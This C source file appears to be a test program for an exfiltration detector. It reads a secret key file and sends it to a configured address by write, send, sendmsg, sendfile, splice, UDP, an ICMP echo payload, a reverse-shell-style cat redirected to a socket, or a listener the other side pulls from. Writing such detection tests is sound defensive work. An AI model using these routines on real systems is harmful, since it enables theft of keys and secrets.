/* SPDX-License-Identifier: GPL-2.0-or-later */

/* E02, E03, E06, E08: the connection exists before the secret is opened, and the secret leaves on it by
 * write, send, sendmsg, sendfile, splice, as the output of a program whose standard output it is ("shell"),
 * or as a datagram ("udp"). "accepted": the other side has connected to us before; "accept": after. "raw":
 * an echo request with the secret in it.
 *
 * The accepting variants listen on the port, print "listening", and wait for the other side to fetch it. */

#include <netinet/ip_icmp.h>
#include <stdbool.h>
#include <sys/sendfile.h>

#include "play.h"

static int key_open(const Play *p) {
        int fd = open(p->key, O_RDONLY | O_CLOEXEC);

        if (fd < 0)
                play_die("cannot open the key (%s)", p->variant);
        return fd;
}

static int socket_connected(const Play *p, int type) {
        struct sockaddr_storage address;
        socklen_t length = play_address(p, &address);
        int fd = play_socket(&address, type);

        if (connect(fd, (struct sockaddr *)&address, length) < 0)
                play_die("connect to %s", p->address);
        return fd;
}

static void wait_closed(int fd) {
        char c;

        if (shutdown(fd, SHUT_WR) < 0 || read(fd, &c, 1) < 0)
                play_die("the other side did not read it all");
        close(fd);
}

/* The standard output of a reverse shell: cat opens the secret and writes to the connection. */
static void send_by_shell(Play *p) {
        int fd = socket_connected(p, SOCK_STREAM), go[2];
        pid_t self = getpid(), child;

        if (pipe2(go, O_CLOEXEC) < 0)
                play_die("pipe");
        child = fork();
        if (child < 0)
                play_die("fork");
        if (child == 0) {
                pid_t parents[] = { self, getppid() == self ? 0 : getppid(), 0 };
                char c;

                /* The truth goes to the original standard output. */
                play_truth(p, getpid(), parents);
                if (read(go[0], &c, 1) != 1 || dup2(fd, STDOUT_FILENO) < 0)
                        play_die("the shell");
                execl("/bin/cat", "cat", p->key, NULL);
                play_die("cat");
        }
        if (write(go[1], "", 1) != 1 || waitpid(child, NULL, 0) != child)
                play_die("cat");
        wait_closed(fd);
}

static void send_raw(Play *p) {
        struct sockaddr_storage address;
        socklen_t length = play_address(p, &address);
        char packet[sizeof(struct icmphdr) + PLAY_SECRET_MAX] = { ICMP_ECHO };
        int fd = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_ICMP);
        pid_t parents[] = { getppid(), 0 };

        if (fd < 0)
                play_die("raw socket");
        play_read(p, key_open(p));
        play_truth(p, getpid(), parents);
        memcpy(packet + sizeof(struct icmphdr), p->secret, p->n_secret);
        if (sendto(fd, packet, sizeof(struct icmphdr) + p->n_secret, 0, (struct sockaddr *)&address,
                            length) < 0)
                play_die("sendto");
}

static void be_pulled(Play *p, bool opened_first) {
        struct sockaddr_storage address;
        socklen_t length = play_address(p, &address);
        int listening = play_socket(&address, SOCK_STREAM), fd, on = 1;
        pid_t parents[] = { getppid(), 0 };

        ((struct sockaddr_in *)&address)->sin_addr.s_addr = htonl(INADDR_ANY);
        setsockopt(listening, SOL_SOCKET, SO_REUSEADDR, &on, sizeof(on));
        if (bind(listening, (struct sockaddr *)&address, length) < 0 || listen(listening, 1) < 0)
                play_die("listen");
        printf("listening\n");
        if (opened_first)
                play_read(p, key_open(p));
        fd = accept4(listening, NULL, NULL, SOCK_CLOEXEC);
        if (fd < 0)
                play_die("accept");
        if (!opened_first)
                play_read(p, key_open(p));
        play_truth(p, getpid(), parents);
        play_deliver(p, fd);
}

static void send_on(Play *p, int fd) {
        struct stat st;
        int key = key_open(p), pipes[2];
        pid_t parents[] = { getppid(), 0 };
        ssize_t size, n = -1;

        if (fstat(key, &st) < 0)
                play_die("fstat");
        size = (ssize_t)st.st_size;
        play_truth(p, getpid(), parents);
        if (play_variant(p, "sendfile")) {
                n = sendfile(fd, key, NULL, (size_t)size);
        } else if (play_variant(p, "splice")) {
                if (pipe(pipes) < 0 || splice(key, NULL, pipes[1], NULL, (size_t)size, 0) != size)
                        play_die("splice from the file");
                n = splice(pipes[0], NULL, fd, NULL, (size_t)size, 0);
        } else {
                struct iovec data = { p->secret, (size_t)size };
                struct msghdr message = { .msg_iov = &data, .msg_iovlen = 1 };

                play_read(p, key);
                if (play_variant(p, "write"))
                        n = write(fd, p->secret, p->n_secret);
                else if (play_variant(p, "send") || play_variant(p, "udp"))
                        n = send(fd, p->secret, p->n_secret, 0);
                else if (play_variant(p, "sendmsg"))
                        n = sendmsg(fd, &message, 0);
                else
                        play_unknown(p);
        }
        if (n != size)
                play_die("%s", p->variant);
}

int main(int argc, char **argv) {
        Play p;

        play_init(&p, argc, argv);
        if (play_variant(&p, "shell")) {
                send_by_shell(&p);
        } else if (play_variant(&p, "raw")) {
                send_raw(&p);
        } else if (play_variant(&p, "accept") || play_variant(&p, "accepted")) {
                be_pulled(&p, play_variant(&p, "accept"));
        } else if (play_variant(&p, "udp")) {
                send_on(&p, socket_connected(&p, SOCK_DGRAM));
        } else {
                int fd = socket_connected(&p, SOCK_STREAM);
                send_on(&p, fd);
                wait_closed(fd);
        }
        return 0;
}
